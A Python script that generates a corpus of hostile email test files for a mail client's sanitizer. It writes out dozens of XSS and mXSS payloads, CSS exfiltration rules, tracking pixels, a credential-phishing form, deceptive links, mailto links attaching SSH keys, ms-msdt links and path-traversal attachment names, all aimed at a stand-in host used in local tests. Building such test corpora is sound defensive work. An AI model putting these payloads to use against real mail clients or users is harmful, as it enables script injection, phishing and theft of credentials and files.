#!/usr/bin/env python3
"""Writes the hostile-mail corpus (tests/hostile/*.eml), once; the .eml files are checked in
and are what the tests read. Every remote URL points at hostile.invalid, which the tests
replace with 127.0.0.1:<port> of a request-counting server (same length, so encodings and
line lengths stay valid). Every script payload, if it ran, would fetch /xss/<n> from that
server and write XSS-<n> into document.title."""

import base64
import os
import quopri

HERE = os.path.dirname(os.path.abspath(__file__))
H = "http://hostile.invalid"
N = [0]


def p(n):
    """A script payload: marks the page and calls the counter."""
    return f"document.title='XSS-{n}';fetch('{H}/xss/{n}')"


def msg(name, subject, body, ctype="text/html; charset=utf-8", headers=(), cte="8bit", raw=None):
    N[0] += 1
    n = N[0]
    lines = [
        "From: Mallory Sender <mallory@hostile.example>",
        "To: Alice <alice@example.org>",
        f"Subject: Hostile {n:02d}: {subject}" if subject is not None else None,
        f"Date: Mon, 2 Nov 2026 10:{n:02d}:00 +0000",
        f"Message-ID: <hostile-{n:02d}@hostile.example>",
        "MIME-Version: 1.0",
        *headers,
    ]
    lines = [l for l in lines if l is not None]
    if raw is not None:
        text = "\n".join(lines) + "\n" + raw
    else:
        text = "\n".join(lines) + f"\nContent-Type: {ctype}\nContent-Transfer-Encoding: {cte}\n\n" + body
    text = text.replace("\r\n", "\n").replace("\n", "\r\n")
    if not text.endswith("\r\n"):
        text += "\r\n"
    path = os.path.join(HERE, f"{n:02d}-{name}.eml")
    with open(path, "w", encoding="utf-8", newline="") as f:
        f.write(text)


def html(body, head=""):
    return f"<!DOCTYPE html>\n<html><head>{head}</head>\n<body>\n{body}\n<p>Hostile test body.</p>\n</body></html>\n"


def alt(text, html_part, b="b1"):
    return f"""Content-Type: multipart/alternative; boundary="{b}"

--{b}
Content-Type: text/plain; charset=utf-8

{text}
--{b}
Content-Type: text/html; charset=utf-8

{html_part}
--{b}--
"""


def n():
    return N[0] + 1


# ---- script in every place HTML allows it ----
k = n()
msg("script-tags", "script elements", html(
    f"<script>{p(k)}</script>\n<SCRIPT type=\"text/javascript\">{p(k)}</SCRIPT>\n"
    f"<script src=\"{H}/xss/{k}/ext.js\"></script>\n<script type=module>{p(k)}</script>\n"
    f"<p>before<script>/*<![CDATA[*/{p(k)}/*]]>*/</script>after</p>",
    head=f"<script>{p(k)}</script>"))
k = n()
msg("event-handlers", "event handlers on everything", html(
    f"<img src=x onerror=\"{p(k)}\">\n<body onload=\"{p(k)}\">\n<div onmouseover=\"{p(k)}\" style=\"height:50px\">hover</div>\n"
    f"<details open ontoggle=\"{p(k)}\"><summary>s</summary>d</details>\n"
    f"<input autofocus onfocus=\"{p(k)}\">\n<marquee onstart=\"{p(k)}\">m</marquee>\n"
    f"<video src=x onerror=\"{p(k)}\"></video><audio src=x onerror=\"{p(k)}\"></audio>\n"
    f"<p ONCLICK=\"{p(k)}\" OnMouseEnter='{p(k)}'>click</p>\n<svg onload=\"{p(k)}\"></svg>\n"
    f"<table background=\"x\" onpointerover=\"{p(k)}\"><tr><td>t</td></tr></table>"))
k = n()
msg("javascript-urls", "javascript: URLs", html(
    f"<a href=\"javascript:{p(k)}\">plain</a>\n<a href=\"JaVaScRiPt:{p(k)}\">mixed case</a>\n"
    f"<a href=\"  javascript:{p(k)}\">leading spaces</a>\n<a href=\"java&#x09;script:{p(k)}\">tab entity</a>\n"
    f"<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{p(k)}\">entities</a>\n"
    f"<a href=\"java\nscript:{p(k)}\">newline</a>\n<iframe src=\"javascript:{p(k)}\"></iframe>\n"
    f"<img src=\"javascript:{p(k)}\">\n<form action=\"javascript:{p(k)}\"><button>go</button></form>\n"
    f"<button formaction=\"javascript:{p(k)}\">b</button>\n<object data=\"javascript:{p(k)}\"></object>\n"
    f"<embed src=\"javascript:{p(k)}\">\n<math><a xlink:href=\"javascript:{p(k)}\">math link</a></math>"))
k = n()
msg("vbscript-livescript", "vbscript and livescript", html(
    f"<a href=\"vbscript:MsgBox('XSS')\">vb</a>\n<a href=\"livescript:{p(k)}\">live</a>\n"
    f"<img src=\"vbscript:msgbox(1)\">\n<p style=\"behavior:url(vbscript:x)\">b</p>"))
k = n()
msg("data-urls", "data: URLs in links and frames", html(
    f"<a href=\"data:text/html,<script>{p(k)}</script>\">data html</a>\n"
    f"<a href=\"data:text/html;base64,{base64.b64encode(f'<script>{p(k)}</script>'.encode()).decode()}\">b64</a>\n"
    f"<iframe src=\"data:text/html,<script>{p(k)}</script>\"></iframe>\n"
    f"<object data=\"data:text/html,<script>{p(k)}</script>\"></object>\n"
    f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=\\\"{p(k)}\\\"/>\">\n"
    f"<img src=\"data:text/html,<script>{p(k)}</script>\">\n"
    f"<a href=\"data:application/x-msdownload;base64,TVqQ\">exe</a>"))
k = n()
msg("iframe-srcdoc", "frames, srcdoc and frameset", html(
    f"<iframe srcdoc=\"<script>{p(k)}</script>\"></iframe>\n<iframe src=\"{H}/px/{k}/frame.html\"></iframe>\n"
    f"<frameset><frame src=\"{H}/px/{k}/frame2.html\"></frameset>\n<portal src=\"{H}/px/{k}/portal\"></portal>\n"
    f"<fencedframe src=\"{H}/px/{k}/fenced\"></fencedframe>"))
k = n()
msg("object-embed-applet", "object, embed, applet", html(
    f"<object data=\"{H}/px/{k}/movie.swf\" type=\"application/x-shockwave-flash\"><param name=movie value=\"{H}/px/{k}/p.swf\"></object>\n"
    f"<embed src=\"{H}/px/{k}/e.swf\">\n<applet code=\"X.class\" codebase=\"{H}/px/{k}/\"></applet>\n"
    f"<object data=\"{H}/px/{k}/o.svg\" type=\"image/svg+xml\"></object>"))
k = n()
msg("meta-refresh", "meta refresh and other http-equiv", html(
    f"<meta http-equiv=\"refresh\" content=\"0;url={H}/px/{k}/refresh\">\n<p>body meta:</p>"
    f"<meta http-equiv=\"refresh\" content=\"1; URL='javascript:{p(k)}'\">",
    head=f"<meta http-equiv=\"refresh\" content=\"0; url={H}/px/{k}/head-refresh\">"
         "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *; script-src * 'unsafe-inline'\">"
         "<meta http-equiv=\"set-cookie\" content=\"a=b\">"
         f"<meta http-equiv=\"Link\" content=\"<{H}/px/{k}/link-header.css>; rel=stylesheet\">"))
k = n()
msg("base-href", "base href rewriting relative URLs", html(
    f"<base href=\"{H}/px/{k}/\">\n<img src=\"pixel.gif\">\n<a href=\"login\">relative link</a>\n"
    f"<img src=\"/abs.gif\">\n<base target=\"_top\">",
    head=f"<base href=\"{H}/px/{k}/head/\">"))
k = n()
msg("link-elements", "link elements that load", html(
    "<p>links in body</p>"
    f"<link rel=\"stylesheet\" href=\"{H}/px/{k}/body.css\">",
    head=f"<link rel=\"stylesheet\" href=\"{H}/px/{k}/x.css\">"
         f"<link rel=\"preload\" as=\"image\" href=\"{H}/px/{k}/preload.gif\">"
         f"<link rel=\"prefetch\" href=\"{H}/px/{k}/prefetch\">"
         f"<link rel=\"dns-prefetch\" href=\"{H}\">"
         f"<link rel=\"preconnect\" href=\"{H}\">"
         f"<link rel=\"icon\" href=\"{H}/px/{k}/favicon.ico\">"
         f"<link rel=\"import\" href=\"{H}/px/{k}/import.html\">"))
k = n()
msg("style-element", "style element with imports and urls", html(
    "<p class=hero>styled</p>",
    head=f"<style>@import url({H}/px/{k}/import.css); @import '{H}/px/{k}/import2.css';\n"
         f".hero {{ background: url({H}/px/{k}/bg.png) }}\n"
         f"@font-face {{ font-family: x; src: url({H}/px/{k}/font.woff) }}\n"
         f"body {{ behavior: url({H}/px/{k}/b.htc); -moz-binding: url({H}/px/{k}/b.xml#x); }}\n"
         f"p {{ width: expression({p(k)}); }}</style>"))
k = n()
msg("css-exfiltration", "CSS attribute-selector exfiltration", html(
    "<form><input name=secret value=\"abc\"></form>\n"
    + "".join(f"<style>input[value^='{c}'] {{ background: url({H}/px/{k}/leak-{c}) }}</style>" for c in "abc")
    + f"<style>@font-face {{ font-family: leak; src: url({H}/px/{k}/font-leak); unicode-range: U+0061; }}"
      f" p {{ font-family: leak }}</style><p>a</p>"))
k = n()
msg("style-attributes", "style attributes that load or run", html(
    f"<div style=\"background-image:url({H}/px/{k}/a.png);color:red\">bg</div>\n"
    f"<div style=\"background:url('{H}/px/{k}/b.png')\">bg2</div>\n"
    f"<div style=\"list-style-image:url({H}/px/{k}/c.png);cursor:url({H}/px/{k}/d.cur),auto\">li</div>\n"
    f"<div style=\"border-image:url({H}/px/{k}/e.png) 30\">border</div>\n"
    f"<div style=\"content:url({H}/px/{k}/f.png)\">content</div>\n"
    f"<div style=\"width:expression({p(k)})\">expr</div>\n"
    f"<div style=\"behavior:url({H}/px/{k}/g.htc)\">behavior</div>\n"
    f"<div style=\"background:u\\72l({H}/px/{k}/h.png)\">escaped</div>\n"
    f"<div style=\"background:\\75rl({H}/px/{k}/i.png)\">escaped2</div>\n"
    f"<div style=\"background-image:image-set('{H}/px/{k}/j.png' 1x)\">image-set</div>\n"
    f"<div style=\"font-family:'a;background:url({H}/px/{k}/k.png)'\">quoted semicolon</div>\n"
    f"<div style=\"color:red;/*x*/background:url({H}/px/{k}/l.png)\">comment</div>\n"
    f"<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background-color:white\">overlay</div>"))
k = n()
msg("tracking-pixels", "tracking pixels in img", html(
    f"<img src=\"{H}/px/{k}/open.gif\" width=1 height=1>\n<IMG SRC=\"{H}/px/{k}/upper.gif\">\n"
    f"<img src=\"//hostile.invalid/px/{k}/protocol-relative.gif\">\n"
    f"<img src=\"https://hostile.invalid/px/{k}/https.gif\" alt=\"\">\n"
    f"<img src='{H}/px/{k}/single.gif'>\n<img src={H}/px/{k}/unquoted.gif>\n"
    f"<img lowsrc=\"{H}/px/{k}/lowsrc.gif\" dynsrc=\"{H}/px/{k}/dynsrc.avi\" longdesc=\"{H}/px/{k}/ld\">\n"
    f"<img src=\"cid:nonexistent@x\" data-src=\"{H}/px/{k}/lazy.gif\">"))
k = n()
msg("background-attributes", "tracking in background attributes", html(
    f"<table background=\"{H}/px/{k}/table.gif\"><tr><td background=\"{H}/px/{k}/td.gif\">cell</td></tr></table>\n"
    f"<div background=\"{H}/px/{k}/div.gif\">div</div>\n<bgsound src=\"{H}/px/{k}/sound.wav\">\n"
    f"<input type=image src=\"{H}/px/{k}/input.gif\">",
    head="").replace("<body>", f"<body background=\"{H}/px/{k}/body.gif\">"))
k = n()
msg("srcset-picture", "srcset and picture sources", html(
    f"<img srcset=\"{H}/px/{k}/1x.gif 1x, {H}/px/{k}/2x.gif 2x\">\n"
    f"<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\" srcset=\"{H}/px/{k}/srcset.gif 100w\" sizes=\"10px\">\n"
    f"<picture><source srcset=\"{H}/px/{k}/source.webp\" type=\"image/webp\"><img src=\"{H}/px/{k}/fallback.gif\"></picture>\n"
    f"<video poster=\"{H}/px/{k}/poster.png\"><source src=\"{H}/px/{k}/v.mp4\"><track src=\"{H}/px/{k}/t.vtt\"></video>\n"
    f"<audio src=\"{H}/px/{k}/a.mp3\" autoplay></audio>"))
k = n()
msg("svg-scripting", "SVG scripting", html(
    f"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>{p(k)}</script>"
    f"<a xlink:href=\"javascript:{p(k)}\"><text y=20>svg link</text></a>"
    f"<animate attributeName=\"href\" values=\"javascript:{p(k)}\"/>"
    f"<set attributeName=\"onmouseover\" to=\"{p(k)}\"/>"
    f"<image href=\"{H}/px/{k}/svg-image.png\"/><use href=\"{H}/px/{k}/sprite.svg#x\"/>"
    f"<foreignObject><iframe srcdoc=\"<script>{p(k)}</script>\"></iframe></foreignObject>"
    f"<feImage href=\"{H}/px/{k}/fe.png\"/></svg>\n"
    f"<svg><style>@import '{H}/px/{k}/svg.css';</style></svg>\n"
    f"<svg><animate onbegin=\"{p(k)}\" attributeName=x dur=1s></svg>"))
k = n()
msg("mathml", "MathML tricks", html(
    f"<math><maction actiontype=\"statusline\" xlink:href=\"javascript:{p(k)}\">click</maction></math>\n"
    f"<math href=\"javascript:{p(k)}\"><mi>x</mi></math>\n"
    f"<math><mtext><table><mglyph><style><img src=x onerror=\"{p(k)}\"></style></mglyph></table></mtext></math>\n"
    f"<math><annotation-xml encoding=\"text/html\"><img src=\"{H}/px/{k}/annotation.gif\" onerror=\"{p(k)}\"></annotation-xml></math>"))
k = n()
msg("mxss-noscript", "mXSS through noscript and title", html(
    f"<noscript><p title=\"</noscript><img src=x onerror={p(k)}>\"></p></noscript>\n"
    f"<title><img src=x onerror=\"{p(k)}\"></title>\n"
    f"<textarea></textarea><img src=x onerror=\"{p(k)}\"></textarea>\n"
    f"<xmp></xmp><img src=x onerror=\"{p(k)}\"></xmp>\n"
    f"<noembed><img title=\"</noembed><img src=x onerror={p(k)}>\"></noembed>"))
k = n()
msg("mxss-namespace", "mXSS through namespace confusion", html(
    f"<svg></p><style><a id=\"</style><img src=1 onerror={p(k)}>\"></svg>\n"
    f"<svg><p><style><g title=\"</style><img src=x onerror={p(k)}>\"></svg>\n"
    f"<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror={p(k)} src=1>\"></mtext></svg></mglyph></mi></math>\n"
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={p(k)}>\n"
    f"<svg><![CDATA[><img src=x onerror={p(k)}>]]></svg>"))
k = n()
msg("mxss-comments", "mXSS through comments and parser quirks", html(
    f"<!--<img src=\"--><img src=x onerror={p(k)}>\">\n"
    f"<!--[if gte IE 4]><script>{p(k)}</script><![endif]-->\n"
    f"<?xml-stylesheet href=\"{H}/px/{k}/pi.css\"?>\n"
    f"<p>a</p><!--><img src=x onerror={p(k)}>-->\n"
    f"<a href=\"https://ok.example/\" title=\"`\"onmouseover=\"{p(k)}\">backtick</a>\n"
    f"<img src=\"x` `<script>{p(k)}</script>\"` `>\n"
    f"<div id=\"x\"><img/src=x/onerror={p(k)}></div>\n"
    f"<scr<script>ipt>{p(k)}</scr</script>ipt>"))
k = n()
msg("forms", "forms and inputs", html(
    f"<form action=\"{H}/px/{k}/post\" method=post><input name=user><input type=password name=pw>"
    f"<button>Log in</button></form>\n<input form=f formaction=\"{H}/px/{k}/fa\" type=submit>\n"
    f"<form id=f action=\"{H}/px/{k}/get\"><select><option>1</option></select>"
    f"<textarea name=t>x</textarea><input type=submit value=Send></form>\n"
    f"<isindex action=\"{H}/px/{k}/isindex\">\n<keygen name=k>"))
k = n()
msg("phishing-form", "password form posting to a remote host", html(
    "<h2>Your mailbox is full</h2><p>Sign in to keep receiving mail.</p>"
    f"<form action=\"{H}/px/{k}/steal\" method=\"post\" target=\"_top\">"
    "<label>Email <input type=email name=e value=\"alice@example.org\"></label>"
    "<label>Password <input type=password name=p autocomplete=current-password></label>"
    "<input type=hidden name=h value=1><button type=submit>Sign in</button></form>"))
k = n()
msg("ping-and-referrer", "hyperlink auditing and prefetch", html(
    f"<a href=\"https://ok.example/\" ping=\"{H}/px/{k}/ping\">audited link</a>\n"
    f"<a href=\"{H}/px/{k}/link\" referrerpolicy=\"unsafe-url\" rel=\"prefetch\">prefetched link</a>\n"
    f"<img src=\"{H}/px/{k}/ref.gif\" referrerpolicy=\"unsafe-url\" loading=\"lazy\">"))
k = n()
msg("dangerous-schemes", "dangerous link schemes", html(
    "<ul>"
    "<li><a href=\"file:///etc/passwd\">file</a>"
    "<li><a href=\"file://hostile.invalid/share/x.exe\">file remote</a>"
    "<li><a href=\"smb://hostile.invalid/share\">smb</a>"
    "<li><a href=\"\\\\hostile.invalid\\share\\x.lnk\">UNC</a>"
    "<li><a href=\"ftp://hostile.invalid/f\">ftp</a>"
    "<li><a href=\"ms-msdt:/id PCWDiagnostic /skip force\">ms-msdt</a>"
    "<li><a href=\"search-ms:query=invoice&crumb=location:\\\\hostile.invalid\\s\">search-ms</a>"
    "<li><a href=\"ms-officecmd:{}\">ms-officecmd</a>"
    "<li><a href=\"intent://x#Intent;scheme=http;end\">intent</a>"
    "<li><a href=\"tern-custom:do-something\">custom scheme</a>"
    "<li><a href=\"jar:https://hostile.invalid/x.jar!/\">jar</a>"
    "<li><a href=\"tel:+15550100\">tel</a>"
    "<li><a href=\"https://ok.example/fine\">a fine link</a>"
    "</ul>"))
k = n()
msg("deceptive-links", "link text showing another host", html(
    "<p><a href=\"https://bank.example.attacker.example/login\">https://bank.example/login</a></p>\n"
    "<p><a href=\"https://attacker.example/verify\">www.bank.example</a></p>\n"
    "<p><a href=\"https://xn--bnk-sna.example/\">bank.example</a> (homograph)</p>\n"
    "<p><a href=\"https://attacker.example/\"><img src=\"cid:none\" alt=\"bank.example/account\"></a></p>\n"
    "<p><a href=\"mailto:thief@hostile.example\">ceo@corp.example</a></p>\n"
    "<p><a href=\"https://bank.example/ok\">bank.example/ok</a> (honest)</p>"))
k = n()
msg("mailto-links", "mailto links with extra fields", html(
    "<a href=\"mailto:bob@example.net?subject=Hello&body=Hi%20Bob&attach=/etc/passwd&attachment=file:///home/alice/.ssh/id_rsa\">attach</a>\n"
    "<a href=\"mailto:bob@example.net?bcc=spy@hostile.example&from=ceo@example.org&X-Header=1&in-reply-to=%3Cx@y%3E\">headers</a>\n"
    "<a href=\"mailto:bob@example.net%0D%0ABcc:%20spy@hostile.example?subject=x%0D%0ABcc:%20spy@hostile.example\">crlf</a>"))
k = n()
msg("malformed-unclosed-multipart", "multipart with no closing boundary", None, raw=f"""Content-Type: multipart/alternative; boundary="zz"

--zz
Content-Type: text/plain

plain part
--zz
Content-Type: text/html; charset=utf-8

<p>hidden html</p><script>{p(k)}</script><img src="{H}/px/{k}/unclosed.gif">
""")
k = n()
msg("malformed-boundaries", "boundary tricks hiding an HTML part", None, raw=f"""Content-Type: multipart/mixed; boundary="outer"; boundary="inner"
Content-Type: text/plain

preamble <script>{p(k)}</script>
--outer
Content-Type: text/plain

visible text
--outer
Content-Type: text/html
Content-Type: text/plain

<img src="{H}/px/{k}/dup-ctype.gif" onerror="{p(k)}">
--inner
Content-Type: text/html

<img src="{H}/px/{k}/inner.gif"><script>{p(k)}</script>
--outer--
epilogue <img src="{H}/px/{k}/epilogue.gif">
""")
k = n()
msg("html-in-rfc822", "HTML inside an attached message", None, raw=f"""Content-Type: multipart/mixed; boundary="m"

--m
Content-Type: text/plain

see attached
--m
Content-Type: message/rfc822

From: x@hostile.example
Subject: inner
Content-Type: text/html

<script>{p(k)}</script><img src="{H}/px/{k}/inner-message.gif" onerror="{p(k)}">
--m--
""")
k = n()
msg("utf7-charset", "UTF-7 and odd charsets", f"+ADw-script+AD4-{p(k)}+ADw-/script+AD4-\n<p>utf7</p>"
    f"<img src=\"{H}/px/{k}/utf7.gif\">", ctype="text/html; charset=utf-7")
k = n()
b64html = html(f"<script>{p(k)}</script><img src=\"{H}/px/{k}/b64.gif\" onerror=\"{p(k)}\">"
               f"<a href=\"javascript:{p(k)}\">b64 link</a>")
msg("base64-html", "base64-encoded HTML", base64.encodebytes(b64html.encode()).decode(), cte="base64")
k = n()
qp = f"<scr=\nipt>{p(k)}</scr=\nipt><img src=3D\"{H}/px/{k}/qp.gif\" on=\nerror=3D\"{p(k)}\">\n<p>qp</p>"
msg("quoted-printable-split", "quoted-printable splitting tags", qp, cte="quoted-printable")
k = n()
msg("html-as-attachment", "HTML attachment with script", None, raw=f"""Content-Type: multipart/mixed; boundary="a"

--a
Content-Type: text/plain

An HTML file is attached. It must never open by itself.
--a
Content-Type: text/html; name="invoice.html"
Content-Disposition: attachment; filename="invoice.html"

<script>{p(k)}</script><img src="{H}/px/{k}/attachment.gif">
--a--
""")
k = n()
svgpart = base64.encodebytes(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{p(k)}\"><image href='{H}/px/{k}/cid-svg.png'/></svg>".encode()).decode()
msg("cid-svg", "cid image that is an SVG", None, raw=f"""Content-Type: multipart/related; boundary="r"

--r
Content-Type: text/html

<p>inline image:</p><img src="cid:logo@hostile"><img src="cid:<logo@hostile>">
--r
Content-Type: image/svg+xml
Content-ID: <logo@hostile>
Content-Disposition: inline
Content-Transfer-Encoding: base64

{svgpart}
--r--
""")
k = n()
msg("attachment-names", "attachment names that escape", None, raw="""Content-Type: multipart/mixed; boundary="n"

--n
Content-Type: text/plain

Attachments with hostile names.
--n
Content-Type: application/octet-stream
Content-Disposition: attachment; filename="../../../../.bashrc"

echo owned
--n
Content-Type: application/octet-stream
Content-Disposition: attachment; filename="C:\\\\Windows\\\\System32\\\\evil.dll"

MZ
--n
Content-Type: application/octet-stream
Content-Disposition: attachment; filename="CON.txt"

x
--n
Content-Type: application/octet-stream
Content-Disposition: attachment; filename*=UTF-8''invoice%E2%80%AEfdp.exe

MZ
--n
Content-Type: application/octet-stream
Content-Disposition: attachment; filename="=?UTF-8?B?Li4vLi4vZXRjL3Bhc3N3ZA==?="

x
--n
Content-Type: application/octet-stream
Content-Disposition: attachment; filename="a%0Ab%00c.txt"

x
--n--
""")
k = n()
msg("encoded-word-script", None, html("<p>header tricks</p>"), headers=[
    f"Subject: =?UTF-8?B?{base64.b64encode(f'Hostile {k:02d}: <script>{p(k)}</script><img src=x onerror={p(k)}>'.encode()).decode()}?=",
    "Reply-To: =?UTF-8?Q?=3Cscript=3Ealert=281=29=3C/script=3E?= <reply@hostile.example>",
])
k = n()
msg("encoded-word-spoof", None, html("<p>From spoofing</p>"), headers=[
    f"Subject: Hostile {k:02d}: =?UTF-8?Q?spoofed_sender_=E2=80=AE?= =?ISO-8859-1?Q?caf=E9?= =?X-UNKNOWN?Q?x?= =?UTF-8?B?broken===?=",
]).__class__  # noqa
# The From of the message above is replaced below, to carry the spoof.
path = os.path.join(HERE, f"{k:02d}-encoded-word-spoof.eml")
data = open(path, encoding="utf-8", newline="").read()
data = data.replace("From: Mallory Sender <mallory@hostile.example>",
                    "From: =?UTF-8?Q?security=40bank=2Eexample_=3Csecurity=40bank=2Eexample=3E?= <mallory@hostile.example>")
open(path, "w", encoding="utf-8", newline="").write(data)
k = n()
big = " ".join(["oversized"] * 20000)
folded = "\n ".join(big[i:i + 900] for i in range(0, len(big), 900))
many = "".join(f"X-Filler-{i}: {'y' * 60}\n" for i in range(3000))
msg("oversized-headers", "oversized headers", html(f"<p>big headers</p><img src=\"{H}/px/{k}/big.gif\">"),
    headers=[f"X-Huge: {folded}", many.rstrip("\n"), "Subject: second subject line " + "z" * 5000,
             "References: " + " ".join(f"<r{i}@x>" for i in range(5000))])
k = n()
depth = 200
raw = ""
for i in range(depth):
    raw += f"Content-Type: multipart/mixed; boundary=\"d{i}\"\n\n--d{i}\n"
raw += f"Content-Type: text/html\n\n<script>{p(k)}</script><img src=\"{H}/px/{k}/deep-mime.gif\">\n"
for i in reversed(range(depth)):
    raw += f"--d{i}--\n"
msg("deep-mime-nesting", "deeply nested MIME", None, raw=raw)
k = n()
msg("deep-html-nesting", "deeply nested HTML", html("<div>" * 30000 + f"<img src=\"{H}/px/{k}/deep.gif\" onerror=\"{p(k)}\">" + "</div>" * 30000
                                                     + "<table>" * 5000 + "x" + "<b><i>" * 5000))
k = n()
msg("dom-clobbering", "DOM clobbering and id tricks", html(
    f"<img name=\"cookie\" src=\"{H}/px/{k}/clobber.gif\"><form id=\"location\"></form>"
    f"<a id=\"defaultView\" name=\"defaultView\" href=\"{H}/px/{k}/cl\">c</a>"
    f"<div id=\"__proto__\" class=\"x\" data-x=\"1\" slot=\"s\" is=\"x-y\">proto</div>"))
k = n()
msg("custom-elements-templates", "templates, slots and shadow DOM", html(
    f"<template><img src=\"{H}/px/{k}/template.gif\" onerror=\"{p(k)}\"></template>\n"
    f"<div><template shadowrootmode=\"open\"><img src=\"{H}/px/{k}/shadow.gif\"><script>{p(k)}</script></template></div>\n"
    f"<x-widget onclick=\"{p(k)}\">custom</x-widget>"))
k = n()
msg("plain-text-html", "HTML in a text/plain message", f"<script>{p(k)}</script>\n<img src=\"{H}/px/{k}/plain.gif\">\n"
    "javascript:alert(1) and https://hostile.invalid/plain-link\n", ctype="text/plain; charset=utf-8")
k = n()
msg("remote-image-allowed", "an ordinary remote image", alt(
    "Newsletter with one remote image.",
    html(f"<h1>Newsletter</h1><p><img src=\"{H}/px/{k}/allowed.gif\" alt=\"logo\" width=\"20\" height=\"20\"></p>")),
    ctype=None, raw=alt("Newsletter with one remote image.",
                        html(f"<h1>Newsletter</h1><p><img src=\"{H}/px/{k}/allowed.gif\" alt=\"logo\" width=\"20\" height=\"20\"></p>")))
k = n()
msg("xml-and-namespaces", "XML namespaces and XHTML", html(
    f"<html xmlns:x=\"urn:x\"><x:script>{p(k)}</x:script></html>\n"
    f"<html:script xmlns:html=\"http://www.w3.org/1999/xhtml\">{p(k)}</html:script>\n"
    f"<xml><i><script>{p(k)}</script></i></xml>\n"
    f"<image src=\"{H}/px/{k}/image-tag.gif\">\n<IMG\n SRC\n=\n\"{H}/px/{k}/split-attr.gif\"\n>"))
k = n()
msg("entities-and-encodings", "entity and encoding tricks in URLs", html(
    f"<img src=\"&#104;ttp://hostile.invalid/px/{k}/entity.gif\">\n"
    f"<img src=\"http&colon;//hostile.invalid/px/{k}/colon.gif\">\n"
    f"<img src=\"http:&#x2F;&#x2F;hostile.invalid/px/{k}/slash.gif\">\n"
    f"<img src=\" \t\nhttp://hostile.invalid/px/{k}/ws.gif\">\n"
    f"<img src=\"http:\\\\hostile.invalid\\px\\{k}\\backslash.gif\">\n"
    f"<img src=\"http://hostile.invalid%2Fpx%2F{k}%2Fpct.gif\">"))
